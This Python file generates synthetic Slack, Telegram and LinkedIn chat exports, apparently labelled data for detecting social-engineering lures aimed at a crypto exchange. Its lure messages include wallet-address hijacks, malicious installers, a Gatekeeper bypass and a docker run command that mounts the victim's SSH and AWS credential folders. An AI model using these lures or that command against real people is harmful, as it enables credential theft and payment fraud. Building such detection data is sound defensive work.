"""Set D chat exports: a Slack workspace export, a Telegram Desktop result.json and a LinkedIn
messages.csv. The file shapes follow sets A and B's chat writers; the messages are new.

Location of a chat message in labels.csv: `FILE#N`, N = the Nth counted message of the file (1-based,
file order). Slack channel_join / channel_leave / channel_purpose / channel_topic entries, Telegram
"type": "service" entries and the LinkedIn header row are not counted.
"""

from __future__ import annotations

from typing import Any

from chat_writers import LinkedInWriter, TelegramWriter
from slack_writer import SlackWriter, slack_json
from spec import ChatFile, ChatItem

SLACK_SERVICE_SUBTYPES = ("channel_join", "channel_leave", "channel_purpose", "channel_topic")
TEAM = "T01KITSUNE"
GUEST_TEAM = "T09TESSERA"

SLACK_USERS: dict[str, dict[str, Any]] = {
    "U01HSATO": {"name": "haruto.sato", "real": "Haruto Sato", "title": "CEO", "team": TEAM,
                 "email": "h.sato@kitsune-ex.co.jp"},
    "U02MTANAKA": {"name": "m.tanaka", "real": "Mika Tanaka", "title": "Treasury Operations", "team": TEAM,
                   "email": "m.tanaka@kitsune-ex.co.jp"},
    "U02KSUZUKI": {"name": "k.suzuki", "real": "Kenta Suzuki", "title": "Backend Engineer", "team": TEAM,
                   "email": "k.suzuki@kitsune-ex.co.jp"},
    "U02STAKAHASHI": {"name": "s.takahashi", "real": "Sho Takahashi", "title": "Security", "team": TEAM,
                      "email": "s.takahashi@kitsune-ex.co.jp"},
    # Slack Connect guests from the partner's workspace (two real, two not).
    "U09ARUIZ": {"name": "ana.ruiz", "real": "Ana Ruiz", "title": "Settlements, Tessera Liquidity",
                 "team": GUEST_TEAM, "email": "ana.ruiz@tesseraliq.com"},
    "U09BADEBAYO": {"name": "ben.osei", "real": "Ben Osei", "title": "Trading, Tessera Liquidity",
                   "team": GUEST_TEAM, "email": "ben.osei@tesseraliq.com"},
    "U09LPARK": {"name": "leo.tessera", "real": "Leo Park", "title": "Tessera RFQ Desk", "team": GUEST_TEAM,
                 "email": "leo.tessera.rfq@gmail.com"},
    "U09TSETTLE": {"name": "tessera-settlements", "real": "Tessera Settlements", "title": "Settlements",
                   "team": GUEST_TEAM, "email": "settlements.tessera@outlook.com"},
}

_SLACK = SlackWriter(SLACK_USERS, TEAM, id_prefix="set-d:")
_msg, _join = _SLACK.message, _SLACK.join


def slack_export() -> list[ChatFile]:
    base = "chat/slack"
    users_file = _SLACK.users_file(base)
    channels = [
        {"id": "C03TREASURY", "name": "treasury", "created": 1704067400, "creator": "U02MTANAKA",
         "is_archived": False, "is_general": False, "members": ["U01HSATO", "U02MTANAKA", "U02STAKAHASHI"],
         "topic": {"value": "Treasury operations", "creator": "U02MTANAKA", "last_set": 1704067400},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
        {"id": "C09TESSERA", "name": "ext-tessera-liquidity", "created": 1793491200, "creator": "U02MTANAKA",
         "is_archived": False, "is_general": False,
         "members": ["U02MTANAKA", "U02KSUZUKI", "U09ARUIZ", "U09BADEBAYO", "U09LPARK", "U09TSETTLE"],
         "topic": {"value": "Shared channel with Tessera Liquidity (Slack Connect)", "creator": "U02MTANAKA",
                   "last_set": 1793491200},
         "purpose": {"value": "Settlement coordination", "creator": "U02MTANAKA", "last_set": 1793491200}},
    ]
    files = [users_file,
             ChatFile(f"{base}/channels.json", slack_json(channels)),
             ChatFile(f"{base}/integration_logs.json", b"[]\n")]

    def day(channel: str, date: str, items: list[tuple[dict[str, Any], ChatItem | None]]) -> None:
        files.append(_SLACK.day_file(base, channel, date, items, SLACK_SERVICE_SUBTYPES))

    day("treasury", "2026-11-12", [
        (_msg("U02MTANAKA", "コールド→ウォームの移動（ETH 120）を Safe の #421 で起票しました。"
              "<https://app.safe.global/transactions/queue?safe=eth:0x7A1eC39b2D4f8a6E0c5B1d93F8e2A47c6Bd0c0De|app.safe.global> "
              "で署名をお願いします。Ledger 画面の safeTxHash がチケット TRS-2310 と一致することを確認してください。",
              "2026-11-12 01:10", 100),
         ChatItem("benign", "wallet-request", "ja", "treasury asks signers to sign in the real app.safe.global and check the hash on the device")),
        (_msg("U02STAKAHASHI", "Heads-up: a fake TRM Labs 'sanctions exposure' mail is going around "
              "(trmlabs-case[.]com) pushing a 'forensics viewer' zip. Real TRM alerts only arrive in the TRM platform. "
              "Don't open it; forward to security@.", "2026-11-12 02:30", 110),
         ChatItem("benign", "vendor-impersonation", "en", "security warns about a fake vendor domain, defanged")),
        (_msg("U01HSATO", "出金上限の変更は来週の取締役会で承認してから実施します。チャットやメールで私の名前で"
              "急ぎの送金依頼が来ても対応せず、必ず電話で確認してください。", "2026-11-12 03:00", 120),
         ChatItem("benign", "exec-impersonation", "ja", "the real CEO in the internal workspace tells staff to verify urgent requests by phone")),
    ])
    plugin = {"id": "F09TSRFQ01", "created": 1794531900, "timestamp": 1794531900,
              "name": "TesseraRFQ_Plugin_2.2.zip", "title": "TesseraRFQ_Plugin_2.2.zip",
              "mimetype": "application/zip", "filetype": "zip", "pretty_type": "Zip",
              "user": "U09LPARK", "user_team": GUEST_TEAM, "size": 38814720, "mode": "hosted", "is_external": False,
              "url_private": "https://files.slack.com/files-pri/T09TESSERA-F09TSRFQ01/tesserarfq_plugin_2.2.zip",
              "url_private_download": "https://files.slack.com/files-pri/T09TESSERA-F09TSRFQ01/download/tesserarfq_plugin_2.2.zip",
              "permalink": "https://tessera-liq.slack.com/files/U09LPARK/F09TSRFQ01/tesserarfq_plugin_2.2.zip"}
    day("ext-tessera-liquidity", "2026-11-13", [
        (_join("U09ARUIZ", "2026-11-13 00:00", 10), None),
        (_join("U09LPARK", "2026-11-13 00:01", 20), None),
        (_join("U09TSETTLE", "2026-11-13 00:02", 30), None),
        (_msg("U09ARUIZ", "Morning all! Today's settlement window is 14:00-15:00 JST. Addresses unchanged, as "
              "published in the Tessera client portal.", "2026-11-13 00:30", 100),
         ChatItem("benign", "conversation-hijack", "en", "real partner contact restates the settlement window and unchanged addresses")),
        (_msg("U09LPARK", "Hi Kitsune team, to get our streaming quotes directly into your OMS please install our RFQ "
              "desktop plugin (attached). Unzip and run TesseraRFQ_Setup.exe as administrator, then paste your "
              "trading API key in the settings.", "2026-11-13 01:05", 110, files=[plugin]),
         ChatItem("lure", "trading-app", "en", "guest on a Gmail identity pushes a zipped 'RFQ plugin' exe to run as admin with API keys")),
        (_msg("U09TSETTLE", "Quick note from settlements: our USDC wallet is being migrated today, please send today's "
              "settlement to 0x3E5b8a2C91dF04e7B6c1A90d2F8e4C7b5A13d9E2 instead. The portal will be updated tomorrow.",
              "2026-11-13 01:40", 120),
         ChatItem("lure", "conversation-hijack", "en", "guest on an Outlook.com identity changes the settlement address in the partner channel")),
        (_msg("U02KSUZUKI", "We don't install software shared in channels, and address changes only go through your "
              "portal plus a call-back. <@U09ARUIZ> are these two accounts yours?", "2026-11-13 01:50", 130),
         ChatItem("benign", "trading-app", "en", "staff declines the plugin and the address change and asks the known contact")),
        (_msg("U09ARUIZ", "No, neither is ours; we've asked our admin to remove them. Please keep using the registered "
              "address. Sorry about this!", "2026-11-13 02:10", 140),
         ChatItem("benign", "conversation-hijack", "en", "real partner contact disowns the two accounts; address unchanged")),
    ])
    return files


# -- Telegram Desktop (single-chat JSON export) -------------------------------------------------


def telegram_export() -> list[ChatFile]:
    people = {"李伟": "user5066112233", "Omar Haddad": "user5077889900", "박대현": "user5044556677",
              "Jae-won Choi | Yeoul Invest": "user7901234567", "Kitsune Exchange | Admin": "user7955501234",
              "量化助手-官方": "user7966602345"}
    tg = TelegramWriter(people, first_id=4100)
    entry, service = tg.entry, tg.service

    service("李伟", "2026-11-03 01:00", "invite_members", members=["Omar Haddad", "박대현"])
    entry("李伟", "2026-11-03 01:05",
          ["群规：本群只用于日程沟通。任何收款地址、银行账户的变更，一律以客户门户为准并电话回访，群里发的地址一概不认。"],
          ChatItem("benign", "wallet-request", "zh", "group admin states that addresses are only taken from the portal"))
    service("Jae-won Choi | Yeoul Invest", "2026-11-04 02:00", "join_group_by_link", inviter="Group")
    entry("Jae-won Choi | Yeoul Invest", "2026-11-04 02:10",
          ["안녕하세요, 여울인베스트 최재원입니다. 다음 주 대표님 미팅 전에 저희 IR 자료 뷰어를 설치해 주셔야 자료가 열립니다. ",
           {"type": "text_link", "text": "IR 뷰어 다운로드 (Mac)", "href": "https://yeoul-ir.com/viewer/YeoulIRViewer.app.zip"},
           " 설치 후 '확인되지 않은 개발자' 경고가 나오면 '열기'를 눌러 주세요."],
          ChatItem("lure", "investor-meeting-install", "ko", "investor who joined by link asks to install a zipped .app 'IR viewer' and bypass Gatekeeper"))
    entry("박대현", "2026-11-04 02:40",
          ["미팅은 Google Meet 으로 진행합니다. 설치할 것은 없습니다: ", {"type": "link", "text": "https://meet.google.com/vrq-hkpn-zsa"},
           " 자료는 PDF 로 메일 부탁드립니다."],
          ChatItem("benign", "investor-meeting-install", "ko", "staff posts a real meet.google.com link and asks for a PDF instead"))
    service("Kitsune Exchange | Admin", "2026-11-06 05:00", "join_group_by_link", inviter="Group")
    entry("Kitsune Exchange | Admin", "2026-11-06 05:03",
          [("Dear partners, due to our OTC escrow migration, each partner must send a verification transfer of 5,000 USDT "
           "to the new escrow address TLw8pX3aR6nQ2mVb9cJ4dS7eF1hK5tY0uZ before Friday to keep OTC access. "
           "It will be refunded within 24h.")],
          ChatItem("lure", "wallet-request", "en", "account posing as the exchange's admin asks partners for a 'verification transfer' to a new address"))
    entry("Omar Haddad", "2026-11-06 05:20",
          ["تنبيه: حساب \"Kitsune Exchange | Admin\" ليس من فريقنا. لا ترسلوا أي مبالغ إلى أي عنوان منشور هنا."],
          ChatItem("benign", "wallet-request", "ar", "staff warns that the 'Admin' account is not the company's"))
    service("量化助手-官方", "2026-11-08 09:00", "join_group_by_link", inviter="Group")
    apk = entry("量化助手-官方", "2026-11-08 09:02",
                ["各位合作伙伴好，这是 Kitsune 官方量化交易App内测版，可自动跟单套利，请在安卓手机上安装后用交易所账号登录。"],
                ChatItem("lure", "trading-app", "zh", "new member posts an 'official' quant trading APK to sideload and log in to"))
    apk.update({"file": "(File not included. Change data exporting settings to download.)",
                "file_name": "KitsuneQuant_v3.1.apk", "file_size": 51380224,
                "mime_type": "application/vnd.android.package-archive"})
    entry("李伟", "2026-11-08 09:15",
          ["这不是我们发的。我们的App只在官方商店上架：",
           {"type": "link", "text": "https://apps.apple.com/jp/app/kitsune-exchange/id6447129901"}, " / ",
           {"type": "link", "text": "https://play.google.com/store/apps/details?id=jp.co.kitsuneex.app"}],
          ChatItem("benign", "trading-app", "zh", "staff disowns the APK and posts the official store links"))
    return [tg.export("Kitsune × Asia Partners", "private_supergroup", 1987650777)]


# -- LinkedIn (Get a copy of your data -> messages.csv) ----------------------------------------

OWNER = ("Kenta Suzuki", "https://www.linkedin.com/in/kenta-suzuki-kx")


def linkedin_export() -> list[ChatFile]:
    li = LinkedInWriter(_SLACK.uuid, seed_prefix="li:")
    row = li.row

    cole = ("Ethan Cole", "https://www.linkedin.com/in/ethan-cole-corvidvault")
    shiori = ("大森 悠真", "https://www.linkedin.com/in/yuma-omori-shiorilabs")
    lin = ("Grace Lin", "https://www.linkedin.com/in/grace-lin-tidewater")
    nash = ("Oliver Grant", "https://www.linkedin.com/in/olivergrant-harveynash")
    kbw = ("김나연", "https://www.linkedin.com/in/nayeon-kim-kbw")
    talent = ("Chloé Bernard", "https://www.linkedin.com/in/chloe-bernard-talentio")

    row("cole", cole, OWNER, "2026-11-03 08:15", "Senior Blockchain Engineer - Corvid Vault",
        "Hi Kenta, loved your talk on settlement engines. We're hiring a senior engineer (USD 230k + tokens). "
        "First step is a short challenge: clone https://github.com/corvidvault-dev/wallet-sync-challenge, run "
        "npm install and npm run setup, then fix the sync bug. The setup script configures a local testnet for you. "
        "Please finish within 24h.",
        ChatItem("lure", "recruiter-coding-test", "en", "recruiter challenge run with npm install / npm run setup under a 24h deadline"))
    row("cole", OWNER, cole, "2026-11-03 10:02", "RE: Senior Blockchain Engineer - Corvid Vault",
        "Thanks Ethan. I don't run external repositories on my machines. Happy to do a live coding session on a "
        "shared editor if that works for your team.",
        ChatItem("benign", "recruiter-coding-test", "en", "the owner declines to run the repo and offers a live session"),
        folder="SENT")
    row("shiori", shiori, OWNER, "2026-11-05 11:40", "",
        "鈴木さん、はじめまして。シオリラボのCTO大森です。弊社のリードエンジニア候補としてお声がけしました。"
        "評価用の環境をコンテナで用意しています：docker run --rm -v ~/.ssh:/root/.ssh -v ~/.aws:/root/.aws "
        "ghcr.io/shiori-labs/eval:latest を実行し、表示されたトークンを Discord（shiori-labs#hiring）で送ってください。",
        ChatItem("lure", "recruiter-coding-test", "ja", "'CTO' asks to docker run an image that mounts ~/.ssh and ~/.aws, then reply on Discord"))
    row("lin", lin, OWNER, "2026-11-07 06:25", "Investment discussion",
        "Hi Kenta, Tidewater Capital is looking at Japanese exchanges for our next fund. Could you connect me with "
        "your CEO? Our calls run on our own encrypted video app; please install it before the meeting: "
        "https://tidewater-meet.com/download/TidewaterMeet.dmg",
        ChatItem("lure", "investor-meeting-install", "en", "investor asks to install a dmg video app from its own meeting domain"))
    row("nash", nash, OWNER, "2026-11-09 04:00", "Platform lead - Tokyo fintech",
        "Hi Kenta, I'm a recruiter at Harvey Nash Japan. I'm working on a platform lead role at a payments company in "
        "Tokyo. If you're open to a chat, could we book a 20-minute call this week? No assessment at this stage.",
        ChatItem("benign", "recruiter-coding-test", "en", "agency recruiter proposes a call; no code or links"))
    row("kbw", kbw, OWNER, "2026-11-10 02:30", "",
        "안녕하세요 켄타님, 코리아 블록체인 위크 파트너십팀 김나연입니다. 행사 중 투자자 미팅 일정은 공식 사이트 "
        "https://koreablockchainweek.com 의 미팅 페이지에서 신청하실 수 있습니다. 별도 앱 설치는 필요 없습니다.",
        ChatItem("benign", "investor-meeting-install", "ko", "conference organiser points to the event's official site; nothing to install"))
    row("talent", talent, OWNER, "2026-11-12 09:10", "Opportunité - Lead Backend (Paris)",
        "Bonjour Kenta, je suis recruteuse chez talent.io. Un client parisien cherche un Lead Backend (paiements). "
        "Le process : un entretien en visio Google Meet, puis un exercice de pair programming en direct, rien à "
        "installer. Seriez-vous intéressé ?",
        ChatItem("benign", "recruiter-coding-test", "fr", "recruiter describes a live pair-programming process with nothing to install"))

    return [li.export()]


def all_chats() -> list[ChatFile]:
    return [*slack_export(), *telegram_export(), *linkedin_export()]
